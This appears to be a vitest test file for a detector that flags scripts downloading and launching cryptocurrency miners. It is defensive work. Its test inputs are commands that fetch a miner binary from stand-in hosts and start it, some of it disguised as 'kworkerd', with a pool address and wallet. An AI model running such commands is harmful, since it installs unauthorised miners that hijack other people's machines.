import { describe, expect, it } from 'vitest';
import { runExtractor } from '../../../tests/harness.ts';
import { fixture } from './miner-download.fixture.ts';
import { minerDownload } from './miner-download.ts';

describe('miner-download', () => {
  it.each(fixture.fires)('sees $name', (example) => {
    expect(runExtractor(minerDownload, example).sightings).toMatchObject(example.expect);
  });
  it.each(fixture.silent)('is silent on $name', (example) => {
    expect(runExtractor(minerDownload, example).sightings).toEqual([]);
  });
  it('says where the command stands, in bytes, in UTF-16 as well', () => {
    const text = 'cd a\ncurl -O http://h.example/xmrig\n';
    const at = (input: Uint8Array): unknown => {
      const [first] = runExtractor(minerDownload, { name: 'case', kind: 'script', input }).sightings;
      return [first?.offset, first?.length];
    };
    expect(at(Buffer.from(text))).toEqual([5, 30]);
    expect(at(Buffer.from(text, 'utf16le'))).toEqual([10, 60]);
  });
  it('does not claim a start where the program ran before it was fetched', () => {
    const input = './xmrig --version\ncurl http://h.example/xmrig -o xmrig\n';
    const { sightings } = runExtractor(minerDownload, { name: 'case', kind: 'script', input });
    expect(sightings.map(({ kind }) => kind)).toEqual(['download']);
  });
  it.each([
    ['./kworkerd', "fetches http://h.example/k.tgz with curl and starts it with a miner's arguments: ./kworkerd"],
    ['./xmrig', "fetches http://h.example/k.tgz with curl and starts it with a miner's arguments: ./xmrig"],
  ])('tells what is fetched and how it is started, once: %s', (program, words) => {
    const wallet = `4${'8'.repeat(94)}`;
    const input = `curl -O http://h.example/k.tgz\n${program} -o p.example:1 -u ${wallet} --donate-level 1\n`;
    const { sightings } = runExtractor(minerDownload, { name: 'case', kind: 'script', input });
    const traits = sightings.flatMap((seen) => (seen.kind === 'miner-code' ? seen.value.traits : []));
    expect(traits).toEqual([`${words} -o p.example:1 -u 48888888… --donate-level 1`]);
  });
  it('says that a long command is cut', () => {
    const input = `curl -O http://h.example/xmrig\n./xmrig ${'-o p.example:1 '.repeat(40)}\n`;
    const { sightings } = runExtractor(minerDownload, { name: 'case', kind: 'script', input });
    const traits = sightings.flatMap((seen) => (seen.kind === 'miner-code' ? seen.value.traits : []));
    expect(traits[0]).toMatch(/known for a miner by its name \(xmrig\), and starts it: .{159}…$/);
  });
  it('reports a gap where a script fetches more than is kept', () => {
    const input = 'curl -O http://h.example/xmrig\n'.repeat(300);
    expect(runExtractor(minerDownload, { name: 'case', kind: 'script', input }).misses).toMatchObject([
      { gap: { code: 'limit-count' } },
    ]);
  });
  it('takes a script with a miner a thousand times without delay', () => {
    const input = `${'wget http://h.example/a.zip\n'.repeat(200)}${'./xmrig -o pool.supportxmr.com:1\n'.repeat(4000)}`;
    const start = performance.now();
    runExtractor(minerDownload, { name: 'case', kind: 'script', input });
    expect(performance.now() - start).toBeLessThan(3000);
  });
});
